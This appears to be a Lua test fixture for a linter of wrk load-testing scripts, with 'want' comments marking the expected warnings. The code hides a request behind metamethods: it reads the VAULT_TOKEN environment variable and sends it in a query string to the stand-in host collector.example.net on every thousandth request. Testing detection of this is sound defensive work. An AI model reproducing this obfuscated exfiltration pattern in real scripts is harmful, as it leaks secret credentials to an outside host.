-- Builds an absolute URL to another host from a helper's parameters and an __add metamethod, carrying a secret environment variable read by __unm
local Cfg = {}
Cfg.__unm = function(c) return os.getenv(c.name) end -- want WL201
Cfg.__add = function(c, path) return wrk.format("GET", "http://" .. c.host .. path .. "?v=" .. (-c)) end -- want WL503 WL701
local cfg = setmetatable({ name = "VAULT_TOKEN", host = "collector.example.net" }, Cfg)

local function report(host, path)
  return wrk.format("POST", "https://" .. host .. path) -- want WL701
end

local n = 0
function request()
  n = n + 1
  if n == 1 then return report("stats.example.org", "/bench") end
  if n % 1000 == 2 then return cfg + "/ingest" end -- want WL503
  return wrk.format(nil, "/")
end
